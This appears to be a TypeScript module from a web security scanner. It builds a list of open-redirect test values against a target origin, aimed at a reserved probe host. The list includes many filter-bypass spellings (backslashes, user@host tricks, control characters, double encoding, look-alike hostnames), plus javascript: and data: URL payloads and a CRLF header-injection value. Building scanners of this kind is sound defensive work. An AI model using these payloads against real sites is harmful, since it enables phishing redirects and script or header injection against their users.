/** Where the spellings lead; a name that is reserved and never resolves. Source: RFC 2606. */
export const AWAY = 'parapet-probe.example'

/** One way to write another site as a target. */
export type Spelling = {
  /** the trick, in words */
  readonly trick: string
  /** the parameter's value before it is encoded for the query */
  readonly value: string
  /** `site` leads to a stranger's site, `near` to another port, scheme or sub-domain of the target's own host */
  readonly leads: 'site' | 'near'
  /** sent as it is, because its percent signs are part of the trick or the query would lose them */
  readonly raw?: boolean
  /** one of the few that are worth a sign-in */
  readonly telling?: boolean
}

const site = (host: string, origin: string): readonly Omit<Spelling, 'leads'>[] => {
  const { protocol, hostname, port } = new URL(origin)
  return [
    { trick: 'an absolute URL', value: `https://${AWAY}/`, telling: true },
    { trick: 'an absolute URL over http', value: `http://${AWAY}/` },
    { trick: 'an absolute URL in capitals', value: `HTTPS://${AWAY.toUpperCase()}/` },
    { trick: 'the target in the query', value: `https://${AWAY}/?${origin}/` },
    { trick: 'the target in the fragment', value: `https://${AWAY}/#${origin}/` },
    { trick: 'the target in the path', value: `https://${AWAY}/${origin}/` },
    { trick: 'the target as a name before the site', value: `${protocol}//${hostname}.${AWAY}/`, telling: true },
    { trick: 'the target as the end of a name', value: `${protocol}//x${hostname}.${AWAY}/` },
    { trick: 'the target as the name of a user', value: `${protocol}//${hostname}@${AWAY}/`, telling: true },
    { trick: 'the target and a port as user and password', value: `https://${hostname}:443@${AWAY}/` },
    ...(port === '' ? [] : [{ trick: 'the whole origin as user and password', value: `${origin}@${AWAY}/`, telling: true }]),
    { trick: 'the target as a user behind two at signs', value: `https://x@${hostname}@${AWAY}/` },
    { trick: 'a path that holds an at sign for the whole origin', value: `@${AWAY}/` },
    { trick: 'an ending for the whole origin', value: `.${AWAY}/` },
    { trick: 'no scheme', value: `//${AWAY}/`, telling: true },
    { trick: 'no scheme, three slashes', value: `///${AWAY}/`, telling: true },
    { trick: 'no scheme, five slashes', value: `/////${AWAY}/` },
    { trick: 'no scheme and the target as a user', value: `//${host}@${AWAY}/` },
    { trick: 'a slash and a backslash', value: `/\\${AWAY}/`, telling: true },
    { trick: 'a backslash and a slash', value: `\\/${AWAY}/` },
    { trick: 'two backslashes', value: `\\\\${AWAY}/`, telling: true },
    { trick: 'two slashes and a backslash', value: `//\\${AWAY}/` },
    { trick: 'backslashes behind the scheme', value: `https:\\\\${AWAY}/` },
    { trick: 'a backslash that ends the host before the target', value: `https://${AWAY}\\@${host}/` },
    { trick: 'a scheme without slashes', value: `https:${AWAY}/`, telling: true },
    { trick: 'the other scheme without slashes', value: `http:${AWAY}/` },
    { trick: 'a scheme with one slash', value: `https:/${AWAY}/` },
    { trick: 'a scheme with three slashes', value: `https:///${AWAY}/` },
    { trick: 'a tab between the slashes', value: `/\t/${AWAY}/`, telling: true },
    { trick: 'a line feed between the slashes', value: `/\n/${AWAY}/` },
    { trick: 'a carriage return between the slashes', value: `/\r/${AWAY}/` },
    { trick: 'a tab within the scheme', value: `ht\ttps://${AWAY}/` },
    { trick: 'a space before the URL', value: ` https://${AWAY}/`, telling: true },
    { trick: 'a control character before the URL', value: `\u0001https://${AWAY}/` },
    { trick: 'a space before two slashes', value: ` //${AWAY}/` },
    { trick: 'a no-break space before two slashes', value: `\u00a0//${AWAY}/` },
    { trick: 'a null character before two slashes', value: `\u0000//${AWAY}/` },
    { trick: 'a dot segment before two slashes', value: `/.//${AWAY}/`, telling: true },
    { trick: 'two dots before two slashes', value: `/x/..//${AWAY}/`, telling: true },
    { trick: 'encoded dots before two slashes', value: `/%2e%2e//${AWAY}/`, raw: true },
    { trick: 'slashes encoded twice', value: `/%252f${AWAY}/`, raw: true },
    { trick: 'a slash that stays encoded in the path', value: `/%2f${AWAY}/` },
    { trick: 'a backslash that stays encoded in the path', value: `/%5c${AWAY}/`, telling: true },
    { trick: 'a tab that stays encoded in the path', value: `/%09/${AWAY}/` },
    { trick: 'a line feed that stays encoded in the path', value: `/%0a/${AWAY}/` },
    { trick: 'a whole URL encoded twice', value: encodeURIComponent(`https://${AWAY}/`) },
    { trick: 'not encoded at all', value: `https://${AWAY}/`, raw: true },
    { trick: 'no scheme, not encoded', value: `//${AWAY}/`, raw: true },
    { trick: 'an ideographic full stop in the name', value: `//parapet-probe\u3002example/` },
    { trick: 'wide letters in the name', value: `//\uff50arapet-probe.example/` },
    { trick: 'a name in Punycode', value: '//xn--parapet-prbe-4jb.example/' },
    { trick: 'a name that drops a soft hyphen', value: `//parapet\u00ad-probe.example/` },
    { trick: 'an IPv4 address as one number', value: '//3405803777/' },
    { trick: 'an IPv6 address', value: '//[2001:db8::1]/' },
    { trick: 'a port of its own', value: `https://${AWAY}:443/` },
    { trick: 'a dot behind the name', value: `//${AWAY}./` },
    { trick: 'a script', value: 'javascript:location="//' + AWAY + '/"', telling: true },
    { trick: 'a script behind a tab', value: 'java\tscript:location="//' + AWAY + '/"' },
    { trick: 'a script that begins like an address', value: `javascript://${host}/%0alocation="//${AWAY}/"` },
    { trick: 'a document of its own', value: `data:text/html,<meta http-equiv=refresh content="0;url=//${AWAY}/">` },
    { trick: 'a header of its own', value: `/x\r\nLocation: https://${AWAY}/` },
  ]
}

const near = (origin: string): readonly Spelling[] => {
  const { protocol, hostname, host, port } = new URL(origin)
  const isName = /[a-z]/i.test(hostname) && !hostname.startsWith('[')
  return [
    { trick: 'another port of the same host', value: `${protocol}//${hostname}:${port === '4443' ? '4444' : '4443'}/`, leads: 'near' },
    { trick: 'the other scheme of the same host', value: `${protocol === 'https:' ? 'http' : 'https'}://${host}/`, leads: 'near' },
    ...(isName ? [{ trick: 'a sub-domain of the same host', value: `${protocol}//parapet-probe.${host}/`, leads: 'near' } as const] : []),
  ]
}

/**
 * Ways to lead a browser from the application at `origin` to another site: what checks by prefix, by ending, by `startsWith('/')` or by
 * another parser than the browser's let through. Sources: CWE-601; WHATWG URL, section 4.4.
 */
export const redirectSpellings = (origin: string): readonly Spelling[] => {
  const all: Spelling[] = []
  for (const one of site(new URL(origin).host, origin)) all.push({ ...one, leads: 'site' })
  return [...all, ...near(origin)]
}

/** The spelling as it stands in the query: percent-encoded as a browser's form does, or raw with only what no request line may hold encoded. */
export const inQuery = ({ value, raw }: Pick<Spelling, 'value' | 'raw'>): string =>
  raw === true ? value.replaceAll(/[^!-~]|["#<>]/g, (one) => encodeURIComponent(one)) : encodeURIComponent(value)
